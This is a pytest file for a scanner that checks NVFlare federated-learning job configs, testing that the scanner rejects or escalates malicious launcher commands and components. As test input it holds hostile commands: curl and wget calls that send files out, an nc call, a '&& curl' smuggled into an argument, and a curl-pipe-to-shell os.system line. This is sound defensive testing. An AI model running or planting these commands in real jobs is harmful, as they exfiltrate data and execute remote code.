"""NVFlare configs: components, launcher commands, duplicate keys, HOCON includes, parse errors."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import collect
from analyzer.engine.configs import components, expand_vars, read_config

POLICY = api.load_policy()
CORPUS = Path(__file__).resolve().parent.parent / "corpus"
TRAIN = "import nvflare.client as flare\n\nflare.init()\n"


def make_job(root: Path, client_config: str | dict, name: str = "config_fed_client.json",
             custom: dict[str, str] | None = None) -> Path:
    app = root / "app_client"
    (app / "config").mkdir(parents=True)
    text = client_config if isinstance(client_config, str) else json.dumps(client_config, indent=2)
    (app / "config" / name).write_text(text)
    for rel, src in (custom if custom is not None else {"train.py": TRAIN}).items():
        (app / "custom" / rel).parent.mkdir(parents=True, exist_ok=True)
        (app / "custom" / rel).write_text(src)
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app_client": ["@ALL"]}}))
    return root


def rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def client_api(command: str, **top) -> dict:
    return {"format_version": 2, **top, "executors": [{"tasks": ["train"], "executor": {
        "path": "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor",
        "args": {"execution_mode": "external_process", "command": command}}}],
        "task_data_filters": [], "task_result_filters": [], "components": []}


def test_standard_client_api_job_is_clean(tmp_path: Path) -> None:
    cfg = client_api("python3 -u custom/{app_script} {app_config}", app_script="train.py", app_config="--epochs 2")
    report = api.scan(make_job(tmp_path, cfg), POLICY)
    assert report.decision.value == "accept", report.findings


def test_custom_class_defined_in_job_is_accepted(tmp_path: Path) -> None:
    cfg = {"format_version": 2, "executors": [{"tasks": ["train"], "executor": {"path": "models.trainer.MyTrainer"}}],
           "components": [{"id": "p", "path": "nvflare.app_opt.pt.file_model_persistor.PTFileModelPersistor",
                           "args": {"model": {"path": "net.Net"}}}]}
    custom = {"net.py": "import torch\nclass Net(torch.nn.Module):\n    pass\n",
              "models/__init__.py": "", "models/trainer.py": "class MyTrainer:\n    pass\n"}
    report = api.scan(make_job(tmp_path, cfg, custom=custom), POLICY)
    assert not [f for f in report.findings if f.category == "config-attack"], report.findings


def test_custom_module_reexporting_popen_is_rejected(tmp_path: Path) -> None:
    cfg = {"format_version": 2, "components": [{"id": "w", "path": "helpers.Warmer", "args": {"args": ["id"]}}]}
    custom = {"helpers.py": "from subprocess import Popen as Warmer\n"}
    report = api.scan(make_job(tmp_path, cfg, custom=custom), POLICY)
    assert "config-attack.dangerous-component" in rules(report)


def test_class_missing_from_job_module_escalates(tmp_path: Path) -> None:
    cfg = {"format_version": 2, "components": [{"id": "w", "path": "helpers.Nothing"}]}
    report = api.scan(make_job(tmp_path, cfg, custom={"helpers.py": "X = 1\n"}), POLICY)
    assert "config-attack.untrusted-component" in rules(report)
    assert report.decision.value != "accept"


@pytest.mark.parametrize("command", [
    "bash -c 'curl -F d=@/data/x https://e; exec python3 -u custom/train.py'",
    "sh custom/run.sh",
    "python3 -c 'import os'",
    "env X=1 wget https://e/p",
    "python3 -u custom/train.py --epochs 1; nc e 80",
])
def test_shell_or_network_command_rejects(tmp_path: Path, command: str) -> None:
    report = api.scan(make_job(tmp_path, client_api(command)), POLICY)
    assert "config-attack.launcher-shell" in rules(report)
    assert report.decision.value == "reject"


@pytest.mark.parametrize("command", ["python3 /opt/other/train.py", "java -jar t.jar", "python3 custom/missing.py",
                                     "./custom/train"])
def test_other_programs_escalate(tmp_path: Path, command: str) -> None:
    report = api.scan(make_job(tmp_path, client_api(command)), POLICY)
    assert "config-attack.launcher-program" in rules(report)
    assert report.decision.value == "escalate"


def test_command_hidden_in_substituted_variable(tmp_path: Path) -> None:
    cfg = client_api("python3 -u custom/{app_script} {app_config}", app_script="train.py",
                     app_config="--epochs 1 && curl https://e")
    assert "config-attack.launcher-shell" in rules(api.scan(make_job(tmp_path, cfg), POLICY))


def test_argv_list_command(tmp_path: Path) -> None:
    ok = api.scan(make_job(tmp_path / "a", client_api(["python3", "-u", "custom/train.py"])), POLICY)  # type: ignore[arg-type]
    bad = api.scan(make_job(tmp_path / "b", client_api(["bash", "-c", "id"])), POLICY)  # type: ignore[arg-type]
    assert ok.decision.value == "accept"
    assert "config-attack.launcher-shell" in rules(bad)


def test_duplicate_path_key(tmp_path: Path) -> None:
    text = ('{"format_version": 2, "executors": [{"tasks": ["train"], "executor": '
            '{"path": "nvflare.app_common.np.np_trainer.NPTrainer", "path": "train.Evil"}}]}')
    report = api.scan(make_job(tmp_path, text), POLICY)
    dup = [f for f in report.findings if f.rule == "config-attack.duplicate-class-key"]
    assert dup and dup[0].line == 1 and report.decision.value == "reject"


def test_config_that_does_not_parse_is_never_accepted(tmp_path: Path) -> None:
    report = api.scan(make_job(tmp_path, '{"format_version": 2, "components": [}'), POLICY)
    assert "unanalyzable.config-parse" in rules(report)
    assert report.decision.value != "accept"


def test_hocon_include_is_never_parsed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pyhocon

    def boom(*a, **k):
        raise AssertionError("pyhocon must not see text with include")

    monkeypatch.setattr(pyhocon.ConfigFactory, "parse_string", boom)
    monkeypatch.setattr(pyhocon.ConfigFactory, "parse_file", boom)
    text = '{\n  format_version = 2\n  include "http://e/x.conf"\n  components = []\n}\n'
    report = api.scan(make_job(tmp_path, text, name="config_fed_client.conf"), POLICY)
    hit = [f for f in report.findings if f.rule == "config-attack.hocon-include-remote"]
    assert hit and hit[0].line == 3 and report.decision.value == "reject"


def test_hocon_env_substitution_is_not_resolved(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JOBGATE_SECRET_TEST", "s3cr3t")
    doc = read_config("app/config/config_fed_client.conf", b"{ token = ${JOBGATE_SECRET_TEST}\n lr = 1 }")
    assert doc.ok and "s3cr3t" not in repr(doc.data)
    assert [p.kind for p in doc.problems] == ["env"]


def test_benign_hocon_and_yaml_configs(tmp_path: Path) -> None:
    hocon = ('{\n format_version = 2\n executors = [{ tasks = ["train"], executor { path = "nvflare.app_common.'
             'executors.learner_executor.LearnerExecutor", args { learner_id = "l" } } }]\n'
             ' components = [{ id = "l", path = "train.Learner", args { lr = 0.1 } }]\n}\n')
    custom = {"train.py": "class Learner:\n    pass\n"}
    assert api.scan(make_job(tmp_path / "h", hocon, "config_fed_client.conf", custom), POLICY).decision.value == "accept"
    yml = "format_version: 2\ncomponents:\n  - id: l\n    path: train.Learner\n"
    assert api.scan(make_job(tmp_path / "y", yml, "config_fed_client.yml", custom), POLICY).decision.value == "accept"
    bad = "format_version: 2\ncomponents:\n  - id: l\n    path: os.system\n    args: {command: id}\n"
    assert api.scan(make_job(tmp_path / "b", bad, "config_fed_client.yaml", custom), POLICY).decision.value == "reject"


def test_nested_component_and_name_only() -> None:
    data = {"components": [{"id": "a", "name": "Popen"}, {"id": "b", "path": "nvflare.x.Y",
                                                          "args": {"inner": {"class_path": "os.system"}}}]}
    assert [c.class_path for c in components(data)] == ["nvflare.x.Y", "os.system"]


def test_expand_vars() -> None:
    assert expand_vars("python3 custom/{s} {c}", {"s": "t.py", "c": "-x"}) == "python3 custom/t.py -x"


@pytest.mark.parametrize("job", ["mal_config_popen", "mal_config_os_system", "mal_config_command_curl",
                                 "mal_config_hocon_include", "mal_config_dupkeys"])
def test_corpus_config_attacks_reject(job: str) -> None:
    report = api.scan(CORPUS / "jobs" / job, POLICY)
    assert report.decision.value == "reject"
    assert any(f.category == "config-attack" for f in report.findings)


@pytest.mark.parametrize("job", ["benign_pt_client_api", "benign_np_learner_hocon", "demo_clean"])
def test_corpus_benign_configs_clean(job: str) -> None:
    report = api.scan(CORPUS / "jobs" / job, POLICY)
    assert not [f for f in report.findings if f.category in ("config-attack", "unanalyzable", "shadowing")]


def test_custom_alias_of_stdlib_callable(tmp_path: Path) -> None:
    cfg = {"format_version": 2, "components": [{"id": "w", "path": "helpers.Warmer"}]}
    custom = {"helpers.py": "import subprocess\n\nWarmer = subprocess.Popen\n"}
    assert "config-attack.dangerous-component" in rules(api.scan(make_job(tmp_path, cfg, custom=custom), POLICY))


def test_hocon_internal_substitution_is_followed(tmp_path: Path) -> None:
    text = '{\n  cls = "os.system"\n  components = [{ id = "x", path = ${cls} }]\n}\n'
    report = api.scan(make_job(tmp_path, text, name="config_fed_client.conf"), POLICY)
    assert "config-attack.dangerous-component" in rules(report)


def test_config_argument_replayed_through_the_script(tmp_path: Path) -> None:
    """The script's default is harmless; the command line the config gives it writes to a shared file system."""
    train = ("import argparse\nimport pandas as pd\np = argparse.ArgumentParser()\n"
             "p.add_argument('--export_dir', default='./exports')\nargs = p.parse_args()\n"
             "pd.read_csv('/data/x.csv').to_csv(args.export_dir + '/rows.csv')\n")
    clean = {"format_version": 2, "app_script": "train.py", "app_config": "--export_dir ./exports", "executors": []}
    dirty = {**clean, "app_config": "--epochs 2 --export_dir /gpfs/projects/shared/www"}
    for config, expect in ((clean, "accept"), (dirty, "reject")):
        root = tmp_path / expect
        (root / "app" / "custom").mkdir(parents=True)
        (root / "app" / "config").mkdir(parents=True)
        (root / "app" / "custom" / "train.py").write_text(train)
        (root / "app" / "config" / "config_fed_client.json").write_text(json.dumps(config))
        (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
        report = api.analyze(collect(root, POLICY.limits), POLICY)
        writes = [f for f in report.findings if f.rule == "file-exfiltration.write-network"]
        if expect == "reject":
            assert writes and writes[0].path == "app/custom/train.py" and "config_fed_client.json" in writes[0].message
            assert report.decision.value == "reject"
        else:
            assert not writes


def test_launcher_running_a_config_named_file_with_python_analyses_it(tmp_path: Path) -> None:
    root = tmp_path / "job"
    (root / "app" / "custom").mkdir(parents=True)
    (root / "app" / "config").mkdir(parents=True)
    (root / "app" / "custom" / "train.cfg").write_text("import os\nos.system('curl -s https://x.example/i | sh')\n")
    config = {"format_version": 2, "executors": [], "components": [{
        "id": "l", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
        "args": {"script": "python3 -u custom/train.cfg"}}]}
    (root / "app" / "config" / "config_fed_client.json").write_text(json.dumps(config))
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
    report = api.analyze(collect(root, POLICY.limits), POLICY)
    found = {(f.rule, f.path) for f in report.findings}
    assert ("config-attack.launcher-unnamed-python", "app/custom/train.cfg") in found
    assert ("subprocess.shell", "app/custom/train.cfg") in found
    assert report.decision.value == "reject"


@pytest.mark.parametrize("path,args", [
    # serves every file under its folder to whichever site asks (nvflare/app_common/streamers/file_retriever.py)
    ("nvflare.app_common.streamers.file_retriever.FileRetriever", {"source_dir": "/data/site", "dest_dir": "./"}),
    ("nvflare.app_common.storages.filesystem_storage.FilesystemStorage", {"root_dir": "/mnt/share"}),
    ("nvflare.fuel_opt.statsd.statsd_reporter.StatsDReporter", {"host": "x.example", "port": 8125}),
    # app_opt integrations that leave the federation: wandb.ai uploads (nvflare/app_opt/tracking/wandb/
    # wandb_receiver.py, mode "online"), Kaggle downloads, container launchers
    ("nvflare.app_opt.tracking.wandb.wandb_receiver.WandBReceiver",
     {"wandb_args": {"project": "p"}, "mode": "online", "events": ["analytix_log_stats"]}),
    ("nvflare.app_opt.kaggle.download_data.download_data", {}),
    ("nvflare.app_opt.job_launcher.docker_launcher.ClientDockerJobLauncher", {}),
])
def test_nvflare_components_outside_the_trusted_families_escalate(tmp_path: Path, path: str, args: dict) -> None:
    cfg = client_api("python3 -u custom/train.py")
    cfg["components"] = [{"id": "c", "path": path, "args": args}]
    report = api.scan(make_job(tmp_path, cfg), POLICY)
    assert "config-attack.untrusted-component" in rules(report)
    assert report.decision.value != "accept"


def test_nvflare_components_of_the_trusted_families_are_clean(tmp_path: Path) -> None:
    cfg = client_api("python3 -u custom/train.py")
    cfg["components"] = [{"id": "f", "path": "nvflare.app_common.filters.percentile_privacy.PercentilePrivacy"},
                         {"id": "e", "path": "nvflare.app_common.widgets.convert_to_fed_event.ConvertToFedEvent"},
                         {"id": "p", "path": "nvflare.fuel.utils.pipe.cell_pipe.CellPipe"},
                         {"id": "t", "path": "nvflare.app_opt.tracking.tb.tb_receiver.TBAnalyticsReceiver",
                          "args": {"events": ["fed.analytix_log_stats"]}},
                         {"id": "m", "path": "nvflare.app_opt.pt.file_model_persistor.PTFileModelPersistor"}]
    report = api.scan(make_job(tmp_path, cfg), POLICY)
    assert not [f for f in report.findings if f.category == "config-attack"], report.findings
